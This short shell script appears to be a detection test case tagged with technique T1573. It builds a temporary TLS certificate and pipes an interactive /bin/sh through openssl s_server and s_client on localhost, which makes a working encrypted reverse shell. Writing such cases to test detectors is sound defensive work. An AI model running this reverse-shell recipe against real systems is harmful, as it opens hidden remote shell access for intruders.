# title: a shell speaks through openssl s_client and a pipe
# technique: T1573
# expects: shell-without-terminal
# needs: openssl
openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/k -out /tmp/c -days 1 -subj /CN=x 2>/dev/null
(sleep 2) | timeout 3 openssl s_server -quiet -accept 4433 -key /tmp/k -cert /tmp/c >/dev/null 2>&1 & sleep 0.7
mkfifo /tmp/f; timeout 2 sh -c '/bin/sh -i </tmp/f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:4433 >/tmp/f 2>/dev/null' || true
